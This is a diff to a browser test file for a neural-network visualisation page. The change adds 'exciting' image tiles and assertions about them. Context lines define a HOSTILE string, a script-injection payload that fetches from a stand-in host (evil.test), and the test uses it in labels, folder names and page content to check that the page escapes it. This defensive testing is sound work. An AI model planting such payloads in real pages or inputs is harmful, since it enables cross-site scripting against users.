@@ -22,6 +22,7 @@ from tinyalex.inside.backwards import RULES
 from tinyalex.inside.fields import Unit, peaks, receptive_field, strongest
 from tinyalex.inside.guesses import Guess
 from tinyalex.inside.inspection import Inspection, choose_unit
+from tinyalex.inside.patches import Excited
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 HOSTILE = ("</script><script>fetch('http://evil.test/a')</script>"
@@ -71,7 +72,11 @@ def path(seen, tmp_path_factory):
     """The page, in a folder whose name is hostile too."""
     path = tmp_path_factory.mktemp("look") / "a#b%20<c>" / "look.html"
     path.parent.mkdir()
-    sections = look_page.look_page(seen, [Guess(HOSTILE, 0.75, True), Guess("b", 0.25)], HOSTILE)
+    tiles = {(unit.layer, unit.map): 2 * [look_page.excited_tile(
+                 seen.network, unit, Excited(2.5, 0, 1, 2), seen.crop, HOSTILE)]
+             for unit in look_page.shown_maps(seen) if unit.layer.name == "relu1b"}
+    sections = look_page.look_page(seen, [Guess(HOSTILE, 0.75, True), Guess("b", 0.25)], HOSTILE,
+                                   look_page.Exciting(1234, tiles))
     drawing.write_html(HOSTILE, sections, path)
     return path
 
@@ -208,8 +213,13 @@ def test_a_click_shows_a_map_large_with_its_strongest_places_and_its_kernel(visi
          zip("ab", [tower[0] for tower in seen.network.stages[0]], strict=True)}
     kernel = kernel_pictures(W["b"], max(np.abs(array).max() for array in W.values()))[f]
     np.testing.assert_array_equal(pixels(dialog.locator(".kernel canvas")), np.rint(255 * kernel))
+    exciting = dialog.locator(".exciting img").evaluate_all(
+        "(images) => images.map((it) => [it.alt.slice(-22), it.naturalWidth])")
+    assert exciting == 2 * [["2.5 at row 1, column 2", 5]]
+    assert dialog.get_by_text("among 1,234 pictures").count() == 1
     dialog.get_by_text("Close").click()
     map_buttons(visit.page, "conv3a").first.click()
+    assert dialog.locator(".exciting").count() == 0
     assert dialog.locator(".kernel").count() == 0, "they read other maps"
 
 
